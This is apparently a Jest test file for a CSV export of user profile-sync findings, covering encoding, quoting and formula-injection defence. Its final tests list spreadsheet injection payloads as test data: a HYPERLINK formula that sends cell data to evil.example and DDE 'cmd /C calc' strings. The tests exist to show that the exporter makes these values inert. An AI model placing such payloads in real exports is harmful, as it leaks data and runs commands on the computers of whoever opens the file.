import { csvCell, CsvWords, organisationCsv } from './csv';
import { scannedPerson } from './testing/people';

const WORDS: CsvWords = {
  headers: {
    name: 'Name', userPrincipalName: 'User principal name', mail: 'Email', inSync: 'Profiles match',
    findings: 'Differences', findingCodes: 'Finding codes', differingProperties: 'Different details', source: 'Source'
  },
  yes: 'Yes',
  no: 'No',
  notRead: 'Not read',
  listSeparator: '; ',
  finding: (code) => `words for ${code}`,
  property: (field) => `label of ${field}`,
  source: (person) => (person.unread ? '' : `from ${person.from || 'profile'}${person.confirming ? ', confirming' : ''}`)
};

/** The rows without the byte order mark, split on the record separator. */
function records(text: string): string[] {
  return text.slice(1).split('\r\n');
}

describe('the organisation CSV', () => {
  it('starts with the UTF-8 byte order mark, so Excel reads Ø and é right', () => {
    const text = organisationCsv([scannedPerson({ id: '1', displayName: 'Øystein Émile' })], WORDS);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(Array.from(Buffer.from(text, 'utf8').subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toContain('Øystein Émile');
  });

  it('ends every record with CRLF and has one header row then one row per person', () => {
    const text = organisationCsv([scannedPerson({ id: 'a' }), scannedPerson({ id: 'b' })], WORDS);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '').indexOf('\n')).toBe(-1);
    expect(records(text)).toEqual([
      'Name,User principal name,Email,Profiles match,Differences,Finding codes,Different details,Source',
      'Person a,a@contoso.example,a@contoso.example,Yes,,,,from profile',
      'Person b,b@contoso.example,b@contoso.example,Yes,,,,from profile',
      ''
    ]);
  });

  it('gives the findings in words and as codes, and the differing properties by their labels', () => {
    const person = scannedPerson({ id: 'x', findings: ['photo-missing-in-sharepoint', 'property-differs'], differingFields: ['jobTitle', 'department'] });
    expect(records(organisationCsv([person], WORDS))[1]).toBe(
      'Person x,x@contoso.example,x@contoso.example,No,words for photo-missing-in-sharepoint; words for property-differs,' +
      'photo-missing-in-sharepoint property-differs,label of jobTitle; label of department,from profile');
  });

  it('says in its last column where each verdict came from: the people index, being confirmed, or the profile', () => {
    const rows = records(organisationCsv([
      scannedPerson({ id: 'i', from: 'index' }),
      scannedPerson({ id: 'c', from: 'index', confirming: true, inSync: false, findings: ['property-differs'] }),
      scannedPerson({ id: 'p', from: 'profile' })
    ], WORDS));
    expect(rows[1].endsWith(',from index')).toBe(true);
    expect(rows[2].endsWith(',"from index, confirming"')).toBe(true);
    expect(rows[3].endsWith(',from profile')).toBe(true);
  });

  it('says "not read" for someone not in the people index yet, whose profile is still being read', () => {
    const person = scannedPerson({ id: 'q', from: 'index', notInIndex: true, confirming: true, inSync: false });
    expect(records(organisationCsv([person], WORDS))[1].split(',')[3]).toBe('Not read');
  });

  it('says "not read" for someone whose profile could not be read, neither yes nor no', () => {
    const person = scannedPerson({ id: 'n', unread: 'no-sharepoint-profile', inSync: false });
    expect(records(organisationCsv([person], WORDS))[1].split(',')[3]).toBe('Not read');
  });

  it.each([
    ['a comma', 'Hansen, Kari', '"Hansen, Kari"'],
    ['a double quote (doubled)', 'Kari "KK" Hansen', '"Kari ""KK"" Hansen"'],
    ['a line feed', 'Kari\nHansen', '"Kari\nHansen"'],
    ['a carriage return inside', 'Kari\rHansen', '"Kari\rHansen"'],
    ['nothing special', 'Kari Hansen', 'Kari Hansen']
  ])('quotes a field with %s as RFC 4180 asks', (_case, value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?q="&A1,"Open")', '"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Open"")"'],
    ['+cmd|\' /C calc\'!A0', '\'+cmd|\' /C calc\'!A0'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['-2+3', '\'-2+3'],
    ['\t=1+1', '\'\t=1+1'],
    ['\r=1+1', '"\'\r=1+1"']
  ])('makes a cell a spreadsheet would run inert: %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('makes hostile names inert wherever they stand in a row', () => {
    const person = scannedPerson({ id: 'h', displayName: '=1+1', userPrincipalName: '@evil', mail: '+47 22 33 44 55' });
    expect(records(organisationCsv([person], WORDS))[1].split(',').slice(0, 3)).toEqual(['\'=1+1', '\'@evil', '\'+47 22 33 44 55']);
  });
});
